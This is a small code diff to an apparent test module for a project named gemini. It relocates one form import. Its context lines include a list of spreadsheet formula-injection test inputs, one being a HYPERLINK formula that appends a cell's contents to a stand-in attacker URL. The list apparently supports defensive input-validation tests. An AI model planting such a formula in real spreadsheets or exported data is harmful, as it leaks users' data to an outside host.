@@ -22,8 +22,8 @@ import gemini
 from gemini.api.forms import TokenForm
 from gemini.core.forms import GeminiForm, LoginForm, TextChecks
 from gemini.core.text import BIDI_CONTROLS, REFUSED_PATTERN, problem_with_text
-from gemini.programme.forms import RiskForm
 from gemini.programme.models import Risk
+from gemini.programme.risks.forms import RiskForm
 
 FORMULAS = ['=HYPERLINK("https://attacker.example/?"&A1,"Click")', "+1+1", "@SUM(1)"]
 
